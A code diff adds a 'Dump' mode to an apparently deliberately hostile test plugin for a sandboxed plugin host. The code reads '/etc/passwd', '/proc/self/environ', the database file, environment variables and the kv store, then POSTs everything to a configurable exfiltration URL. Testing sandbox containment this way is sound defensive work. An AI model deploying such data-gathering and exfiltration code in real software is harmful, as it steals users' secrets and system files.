@@ -39,6 +39,11 @@ pub enum Config {
     Cpu { iterations: u64 },
     /// Write to the log, stdout and stderr.
     Chatty { lines: u32 },
+    /// Gather everything the plugin can see (its input, `secret`, the
+    /// environment, files, the kv store, an email rendered with `secret`),
+    /// then put it in every place it can: the log, stdout, `exfiltrate` over
+    /// HTTP (with the secret, then without), its output and its error.
+    Dump { secret: String, exfiltrate: String, template: String, fail: bool },
 }
 
 struct Hostile;
@@ -51,6 +56,7 @@ impl Step for Hostile {
     }
 
     fn run(input: Input<Config>, host: &dyn Host) -> Result<Outcome, StepError> {
+        let context = input.context.clone();
         match input.config {
             Config::Loop => {
                 let mut x = 0u64;
@@ -118,6 +124,54 @@ impl Step for Hostile {
                     eprintln!("stderr line {i}");
                 }
                 Ok(Outcome::done(json!(lines)))
+            }
+            Config::Dump { secret, exfiltrate, template, fail } => {
+                let files: Vec<Value> = ["/", ".", "/proc/self/environ", "/etc/passwd", "weft.db"]
+                    .iter()
+                    .map(|path| match std::fs::read(path) {
+                        Ok(bytes) => json!({ "path": path, "bytes": String::from_utf8_lossy(&bytes) }),
+                        Err(e) => json!({ "path": path, "error": e.to_string() }),
+                    })
+                    .collect();
+                let mut kv = json!({});
+                for key in host.kv_list("").unwrap_or_default() {
+                    kv[key.as_str()] = json!(host.kv_get(&key).ok().flatten());
+                }
+                let email = host
+                    .email_render(&template, &json!({ "secret": secret }))
+                    .map(|e| json!({ "subject": e.subject, "text": e.text, "html": e.html }))
+                    .unwrap_or_else(|e| json!({ "error": e.to_string() }));
+                let dump = json!({
+                    "secret": secret,
+                    "context": context,
+                    "env": std::env::vars().collect::<Vec<_>>(),
+                    "args": std::env::args().collect::<Vec<_>>(),
+                    "files": files,
+                    "kv": kv,
+                    "email": email,
+                });
+                let text = dump.to_string();
+                host.log(Level::Info, &text);
+                println!("{text}");
+                eprintln!("{text}");
+                let send = |body: &str, header: &str| {
+                    host.http_send(&HttpRequest {
+                        method: "POST".into(),
+                        url: exfiltrate.clone(),
+                        headers: vec![("x-dump".into(), header.into())],
+                        body: Some(body.as_bytes().to_vec()),
+                        ..HttpRequest::default()
+                    })
+                    .map(|r| json!(r.status))
+                    .unwrap_or_else(|e| json!({ "error": e.to_string() }))
+                };
+                let with_secret = send(&text, &secret);
+                let without = send(&text.replace(&secret, "-"), "-");
+                let result = json!({ "dump": dump, "withSecret": with_secret, "without": without });
+                if fail {
+                    return Err(StepError::fatal(format!("dump: {result}")));
+                }
+                Ok(Outcome::done(result))
             }
         }
     }
